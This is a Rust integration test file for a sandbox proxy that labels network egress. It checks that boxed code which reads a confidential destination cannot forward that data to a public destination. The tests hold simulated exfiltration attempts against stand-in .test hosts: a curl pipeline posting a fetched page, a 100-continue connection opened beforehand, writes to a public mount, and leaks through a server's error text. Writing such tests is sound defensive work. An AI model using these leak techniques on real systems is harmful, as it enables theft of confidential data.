@@ -1,0 +1,548 @@
+//! Issue 19, item 3: the egress label is the call's label, and it floats up within a call.
+//!
+//! The code in a networked box is the attacker's. It reads what a destination cleared for
+//! confidential data answers and, in the same call (or, for a server, in a later one), sends
+//! it to a destination cleared only for public data. Each test runs that code in a real box
+//! behind the real proxy, in the test's own network (`netlab`); the origin's log shows what
+//! reached a destination.
+
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+mod netlab;
+
+use std::path::Path;
+use std::time::{Duration, Instant};
+
+use netlab::*;
+use serde_json::{Value, json};
+
+/// A Python snippet run in a box: `ask(raw)` sends raw bytes to the proxy and reads until
+/// the other side closes; `status(answer)` is its first line.
+const RAW: &str = r#"
+import socket, sys, json, time
+PROXY = ("127.0.0.1", 3128)
+def ask(raw, wait=20):
+    s = socket.create_connection(PROXY, timeout=wait)
+    s.sendall(raw)
+    out = b""
+    try:
+        while True:
+            b = s.recv(65536)
+            if not b:
+                break
+            out += b
+    except Exception as e:
+        out += ("<%s>" % e).encode()
+    s.close()
+    return out.decode("latin-1")
+def status(answer):
+    return answer.split("\r\n", 1)[0]
+def get(host, path="/"):
+    return ask(("GET http://%s%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (host, path, host)).encode())
+def post(host, path, body):
+    head = "POST http://%s%s HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n" % (
+        host, path, host, len(body))
+    return ask(head.encode() + body)
+"#;
+
+/// The label and content of a `run` call of `code` in a `tool` box: `(class, content)`.
+fn python(lab: &Lab, cfg: &Path, session: &str, tool: &str, code: &str) -> (String, Value) {
+    let r = lab.call(
+        cfg,
+        session,
+        tool,
+        &json!({"argv": ["/usr/bin/python3", "-c", format!("{RAW}\n{code}")]}),
+    );
+    assert!(r.ok(), "{}", r.show());
+    let v: Value = serde_json::from_str(r.stdout.trim()).unwrap();
+    assert_eq!(v["status"], "result", "{}", r.show());
+    let content = r.run_content();
+    assert_eq!(content["exit"], 0, "{content}");
+    (v["class"].as_str().unwrap_or_default().to_string(), content)
+}
+
+/// What the box printed last, as JSON.
+fn printed(content: &Value) -> Value {
+    let out = content["stdout"].as_str().unwrap_or_default();
+    serde_json::from_str(out.trim().lines().last().unwrap_or_default())
+        .unwrap_or_else(|e| panic!("not JSON ({e}): {content}"))
+}
+
+/// Every request the origin (or the canary) got whose path starts with `path`, and the
+/// `received` lines the origin logs after reading a body there.
+fn reached(lab: &Lab, path: &str) -> Vec<Value> {
+    let mut got = lab.requests("origin");
+    got.extend(lab.requests("canary"));
+    got.into_iter()
+        .filter(|r| r["path"].as_str().is_some_and(|p| p.starts_with(path)))
+        .collect()
+}
+
+/// A networked `run` whose own class is confidential: its answers are, whatever it reads.
+const CONFNET: &str = r#"
+[[tool]]
+name = "confnet"
+builtin = "run"
+network = true
+class = "confidential"
+mounts = ["lab", "pyvenv", "node", "servers"]
+env = ["SSL_CERT_FILE", "CURL_CA_BUNDLE"]
+"#;
+
+/// (a) The tool's own class is part of the call's label: a confidential tool in a public
+/// session may not reach a destination cleared only for public data.
+#[test]
+fn a_confidential_tool_in_a_public_session_is_refused_a_public_destination() {
+    let lab = Lab::new("float-toolclass");
+    let cfg = lab.config("c", &format!("{BASE}{CONFNET}"));
+    let (class, content) = python(
+        &lab,
+        &cfg,
+        "s1",
+        "confnet",
+        "print(json.dumps({'public': status(get('allowed.test', '/echo')), \
+         'cleared': status(get('cleared.test', '/echo'))}))",
+    );
+    let out = printed(&content);
+    assert_eq!(
+        out["public"],
+        "HTTP/1.1 403 boxmaker refused allowed.test:80: this tool's answers are confidential \
+         (its class) and that destination is cleared for public",
+        "{content}"
+    );
+    assert!(
+        !lab.origin_saw_host("allowed.test"),
+        "the confidential tool reached a public destination: {:?}",
+        lab.requests("origin")
+    );
+    // A destination cleared for its class still works, and its answer is what it is.
+    assert!(
+        out["cleared"].as_str().unwrap().starts_with("HTTP/1.1 200"),
+        "{content}"
+    );
+    assert_eq!(class, "confidential");
+}
+
+/// (b) What a destination answers floats the box's label up: once the box has read a
+/// confidential destination's answer, a public one is refused in the same call, and the
+/// call's result carries the label the box reached — over plain HTTP and through a TLS
+/// tunnel.
+#[test]
+fn a_box_that_read_a_confidential_answer_cannot_send_it_to_a_public_destination() {
+    let lab = Lab::new("float-answer");
+    let cfg = lab.config("c", BASE);
+    let (class, content) = python(
+        &lab,
+        &cfg,
+        "s1",
+        "net",
+        "secret = get('cleared.test')\n\
+         sent = post('allowed.test', '/sink/b', secret.encode('latin-1'))\n\
+         print(json.dumps({'secret': status(secret), 'sent': status(sent)}))",
+    );
+    let out = printed(&content);
+    assert!(
+        out["secret"].as_str().unwrap().starts_with("HTTP/1.1 200"),
+        "{content}"
+    );
+    assert_eq!(
+        out["sent"],
+        "HTTP/1.1 403 boxmaker refused allowed.test:80: this box has read confidential data \
+         (a destination's answer) and that destination is cleared for public",
+        "{content}"
+    );
+    assert!(
+        reached(&lab, "/sink/b").is_empty(),
+        "the public destination got the confidential answer: {:?}",
+        reached(&lab, "/sink/b")
+    );
+    assert_eq!(class, "confidential", "{content}");
+    lab.wait_egress(&cfg, "refused allowed.test after the float", |r| {
+        r["outcome"] == "refused"
+            && r["host"] == "allowed.test"
+            && r["reason"]
+                .as_str()
+                .is_some_and(|w| w.contains("this box has read confidential data"))
+    });
+
+    // The same through TLS tunnels, by curl: the answer read is the TLS stream.
+    let v = lab.run_in_box(
+        &cfg,
+        "s2",
+        "net",
+        &[
+            "sh",
+            "-c",
+            "curl -sS https://cleared.test/ -o /tmp/page && \
+             curl -sSv --data-binary @/tmp/page https://allowed.test/sink/tls; echo \"exit=$?\"",
+        ],
+    );
+    let err = v["stderr"].as_str().unwrap_or_default();
+    assert!(
+        err.contains("boxmaker refused allowed.test:443: this box has read confidential data"),
+        "{v}"
+    );
+    assert!(
+        reached(&lab, "/sink/tls").is_empty(),
+        "{:?}",
+        reached(&lab, "/sink/tls")
+    );
+    // And a session that never read it is not affected.
+    let (class, content) = python(
+        &lab,
+        &cfg,
+        "s3",
+        "net",
+        "print(json.dumps({'sent': status(post('allowed.test', '/sink/ok', b'public'))}))",
+    );
+    assert!(
+        printed(&content)["sent"]
+            .as_str()
+            .unwrap()
+            .starts_with("HTTP/1.1 200"),
+        "{content}"
+    );
+    assert_eq!(class, "public");
+}
+
+/// (c) A rule's `returns` says what its answers are: a destination cleared for confidential
+/// data whose answers are public does not float the box, so nothing is refused for them.
+#[test]
+fn a_destination_whose_answers_are_public_does_not_float_the_box() {
+    let lab = Lab::new("float-returns");
+    let rule = "name = \"cleared\"\nhost = \"cleared.test\"\nclass = \"confidential\"\n";
+    assert!(BASE.contains(rule));
+    let cfg = lab.config(
+        "c",
+        &BASE.replace(rule, &format!("{rule}returns = \"public\"\n")),
+    );
+    let (class, content) = python(
+        &lab,
+        &cfg,
+        "s1",
+        "net",
+        "page = get('cleared.test')\n\
+         sent = post('allowed.test', '/sink/c', page.encode('latin-1'))\n\
+         print(json.dumps({'page': status(page), 'sent': status(sent), 'n': len(page)}))",
+    );
+    let out = printed(&content);
+    assert!(
+        out["sent"].as_str().unwrap().starts_with("HTTP/1.1 200"),
+        "{content}"
+    );
+    let n = out["n"].as_u64().unwrap();
+    assert!(
+        reached(&lab, "/sink/c")
+            .iter()
+            .any(|r| r["received"].as_u64() == Some(n)),
+        "{:?}",
+        reached(&lab, "/sink/c")
+    );
+    assert_eq!(class, "public");
+    // `box show` says what its answers are.
+    let show = lab.boxmaker(&cfg, &["box", "show", "--tool", "net"]);
+    assert!(
+        show.stdout.contains(
+            "cleared.test (cleared) ports 443, 80 cleared for confidential, answers public"
+        ),
+        "{}",
+        show.show()
+    );
+}
+
+/// (d)'s box: opens B, waits for B's origin to say `100 Continue`, reads A, then sends A's
+/// answer as the rest of B's body.
+const OPEN_B_THEN_READ_A: &str = r#"
+b = socket.create_connection(PROXY, timeout=20)
+b.sendall(b'POST http://allowed.test/sink/d HTTP/1.1\r\nHost: allowed.test\r\n'
+          b'Expect: 100-continue\r\nContent-Length: 4000\r\n\r\nbefore:')
+cont = b''
+while b'\r\n\r\n' not in cont:
+    got = b.recv(4096)
+    if not got:
+        break
+    cont += got
+secret = get('cleared.test')
+body = (secret * 20).encode('latin-1')[:3993]
+try:
+    b.sendall(body)
+    sent = 'sent'
+except OSError as e:
+    sent = 'error: %s' % e
+try:
+    rest = b.recv(4096).decode('latin-1')
+except OSError as e:
+    rest = '<%s>' % e
+print(json.dumps({'continue': status(cont.decode('latin-1')), 'secret': status(secret),
+                  'sent': sent, 'rest': rest}))
+"#;
+
+/// (d) A connection opened before the answer came is cut when the answer reaches the box:
+/// the bytes could otherwise flow out over it. The box opens B (public), has B's origin
+/// confirm the request (`100 Continue`), reads A's confidential answer, then sends it as
+/// B's body.
+#[test]
+fn a_connection_opened_before_a_confidential_answer_is_cut_when_it_arrives() {
+    let lab = Lab::new("float-cut");
+    let cfg = lab.config("c", BASE);
+    let (class, content) = python(&lab, &cfg, "s1", "net", OPEN_B_THEN_READ_A);
+    let out = printed(&content);
+    assert_eq!(out["continue"], "HTTP/1.1 100 Continue", "{content}");
+    assert!(
+        out["secret"].as_str().unwrap().starts_with("HTTP/1.1 200"),
+        "{content}"
+    );
+    // B was open (its head reached the origin) before A was asked.
+    let log = lab.requests("origin");
+    let b_at = log.iter().position(|r| r["path"] == "/sink/d");
+    let a_at = log.iter().position(|r| r["host"] == "cleared.test");
+    assert!(
+        matches!((b_at, a_at), (Some(b), Some(a)) if b < a),
+        "{log:?}"
+    );
+    // Only what was sent before the answer arrived reached B.
+    let got: Vec<u64> = reached(&lab, "/sink/d")
+        .iter()
+        .filter_map(|r| r["received"].as_u64())
+        .collect();
+    assert_eq!(got, vec![7], "B's origin read more than `before:`: {log:?}");
+    assert!(
+        !out["rest"].as_str().unwrap().contains("got "),
+        "B answered: {content}"
+    );
+    assert_eq!(class, "confidential");
+    let cut = lab.wait_egress(&cfg, "B closed as cut", |r| {
+        r["outcome"] == "closed"
+            && r["host"] == "allowed.test"
+            && r["reason"]
+                .as_str()
+                .is_some_and(|w| w.starts_with("cut when"))
+    });
+    assert!(
+        cut["reason"]
+            .as_str()
+            .unwrap()
+            .contains("read confidential data from cleared.test"),
+        "{cut}"
+    );
+}
+
+/// A networked downstream server that keeps what it fetched between its calls.
+const FLOAT_SERVER: &str = r#"
+[[tool]]
+name = "float"
+mcp = ["/usr/bin/python3", "/opt/servers/float_server.py"]
+network = true
+mounts = ["servers"]
+"#;
+
+fn server_call(lab: &Lab, cfg: &Path, session: &str, tool: &str, args: Value) -> Value {
+    let r = lab.call(cfg, session, tool, &args);
+    assert!(r.ok(), "{}", r.show());
+    let v: Value = serde_json::from_str(r.stdout.trim()).unwrap();
+    assert_eq!(v["status"], "result", "{}", r.show());
+    v
+}
+
+fn text_of(v: &Value) -> String {
+    let c: Value = serde_json::from_str(v["content"].as_str().unwrap()).unwrap();
+    c["content"][0]["text"]
+        .as_str()
+        .unwrap_or_default()
+        .to_string()
+}
+
+/// (e) A server's box floats the same way, and keeps what it reached: after one of its calls
+/// read a confidential answer, its later answers carry that label and its connection to a
+/// public destination is refused.
+#[test]
+fn a_server_that_read_a_confidential_answer_stays_at_that_label_for_its_later_calls() {
+    let lab = Lab::new("float-server");
+    let cfg = lab.config("c", &format!("{BASE}{FLOAT_SERVER}"));
+    let got = server_call(
+        &lab,
+        &cfg,
+        "s1",
+        "float_fetch",
+        json!({"url": "http://cleared.test/"}),
+    );
+    assert!(
+        text_of(&got).contains("origin page for cleared.test"),
+        "{got}"
+    );
+    assert_eq!(got["class"], "confidential", "{got}");
+    let sent = server_call(
+        &lab,
+        &cfg,
+        "s1",
+        "float_send",
+        json!({"url": "http://allowed.test/sink/e"}),
+    );
+    assert_eq!(
+        text_of(&sent),
+        "HTTP/1.1 403 boxmaker refused allowed.test:80: this box has read confidential data \
+         (a destination's answer) and that destination is cleared for public",
+        "{sent}"
+    );
+    assert_eq!(sent["class"], "confidential", "{sent}");
+    assert!(
+        reached(&lab, "/sink/e").is_empty(),
+        "{:?}",
+        reached(&lab, "/sink/e")
+    );
+}
+
+/// (e) The same when the answer reaches the server between its calls (its own background
+/// fetch, after its answer went out): the next answer of that server, whatever it says,
+/// carries the label the server reached, and it cannot send what it read to a public
+/// destination.
+#[test]
+fn a_server_that_read_a_confidential_answer_between_calls_labels_every_later_answer() {
+    let lab = Lab::new("float-between");
+    let cfg = lab.config("c", &format!("{BASE}{FLOAT_SERVER}"));
+    let started = server_call(
+        &lab,
+        &cfg,
+        "s1",
+        "float_fetch_later",
+        json!({"url": "http://cleared.test/"}),
+    );
+    assert_eq!(text_of(&started), "started");
+    assert_eq!(started["class"], "public", "{started}");
+    // Wait for the background fetch to have its answer.
+    let deadline = Instant::now() + Duration::from_secs(30);
+    let status = loop {
+        let s = server_call(&lab, &cfg, "s1", "float_status", json!({}));
+        if text_of(&s) != "kept 0 bytes" {
+            break s;
+        }
+        assert!(Instant::now() < deadline, "the server never fetched: {s}");
+        std::thread::sleep(Duration::from_millis(200));
+    };
+    assert_eq!(status["class"], "confidential", "{status}");
+    let sent = server_call(
+        &lab,
+        &cfg,
+        "s1",
+        "float_send",
+        json!({"url": "http://allowed.test/sink/between"}),
+    );
+    assert!(text_of(&sent).starts_with("HTTP/1.1 403 "), "{sent}");
+    assert!(
+        reached(&lab, "/sink/between").is_empty(),
+        "{:?}",
+        reached(&lab, "/sink/between")
+    );
+}
+
+/// A networked `run` that may write a public mount.
+const OUTBOX: &str = r#"
+[[mount]]
+name = "outbox"
+host = "LABDIR/outbox"
+at = "/data/outbox"
+class = "public"
+write = true
+
+[[tool]]
+name = "netw"
+builtin = "run"
+network = true
+mounts = ["lab", "outbox"]
+"#;
+
+/// No write down through the float: a box that may write a public mount cannot read a
+/// confidential answer, which it could leave there for any public reader; it is refused the
+/// destination rather than floated above the mount.
+#[test]
+fn a_box_that_can_write_a_public_mount_is_refused_a_confidential_answer() {
+    let lab = Lab::new("float-writedown");
+    std::fs::create_dir_all(lab.dir.join("outbox")).unwrap();
+    // The box's user is an unprivileged host uid: the mount must let it write.
+    std::fs::set_permissions(
+        lab.dir.join("outbox"),
+        std::os::unix::fs::PermissionsExt::from_mode(0o777),
+    )
+    .unwrap();
+    let cfg = lab.config("c", &format!("{BASE}{OUTBOX}"));
+    let (class, content) = python(
+        &lab,
+        &cfg,
+        "s1",
+        "netw",
+        "page = get('cleared.test')\n\
+         open('/data/outbox/page.txt', 'w').write(page)\n\
+         print(json.dumps({'page': status(page)}))",
+    );
+    assert_eq!(
+        printed(&content)["page"],
+        "HTTP/1.1 403 boxmaker refused cleared.test:80: its answers are confidential and this \
+         box can write /data/outbox, a public mount, where what it read would go below its \
+         label (no write down); a tool that reads there needs mounts = [...] without it, or \
+         read-only",
+        "{content}"
+    );
+    let left = std::fs::read_to_string(lab.dir.join("outbox/page.txt")).unwrap_or_default();
+    assert!(
+        !left.contains("origin page for cleared.test"),
+        "the confidential answer was written to a public mount: {left}"
+    );
+    assert!(!lab.origin_saw_host("cleared.test"));
+    assert_eq!(class, "public");
+    // Public answers still come, and may be written there.
+    let (_, content) = python(
+        &lab,
+        &cfg,
+        "s1",
+        "netw",
+        "print(json.dumps({'page': status(get('allowed.test'))}))",
+    );
+    assert!(
+        printed(&content)["page"]
+            .as_str()
+            .unwrap()
+            .starts_with("HTTP/1.1 200"),
+        "{content}"
+    );
+}
+
+/// A server's failure carries no label (the gate raises the taint by the tool's floor for
+/// it), so once the server's box has read above that, the failure may not quote what the
+/// server says: the server read a confidential answer between calls, then fails on purpose
+/// with it as its error text.
+#[test]
+fn a_server_that_read_a_confidential_answer_cannot_fail_with_it() {
+    let lab = Lab::new("float-fail");
+    let cfg = lab.config("c", &format!("{BASE}{FLOAT_SERVER}"));
+    let started = server_call(
+        &lab,
+        &cfg,
+        "s1",
+        "float_fetch_later",
+        json!({"url": "http://cleared.test/"}),
+    );
+    assert_eq!(started["class"], "public", "{started}");
+    // Fail until the background fetch has its answer (a failure leaves the session public).
+    let deadline = Instant::now() + Duration::from_secs(30);
+    let message = loop {
+        let r = lab.call(&cfg, "s1", "float_fail", &json!({}));
+        let v: Value = serde_json::from_str(r.stdout.trim())
+            .unwrap_or_else(|e| panic!("not JSON ({e}):\n{}", r.show()));
+        assert_eq!(v["status"], "failed", "{v}");
+        let m = v["message"].as_str().unwrap_or_default().to_string();
+        if !m.contains("kept 0 bytes") {
+            break m;
+        }
+        assert!(Instant::now() < deadline, "the server never fetched: {m}");
+        std::thread::sleep(Duration::from_millis(200));
+    };
+    assert!(
+        !message.contains("origin page for cleared.test"),
+        "a failure quoted the confidential answer: {message}"
+    );
+    assert_eq!(
+        message,
+        "float_fail: the call failed, and what the server said is withheld: its box has read \
+         confidential data (a destination's answer), and a failure carries no label"
+    );
+}
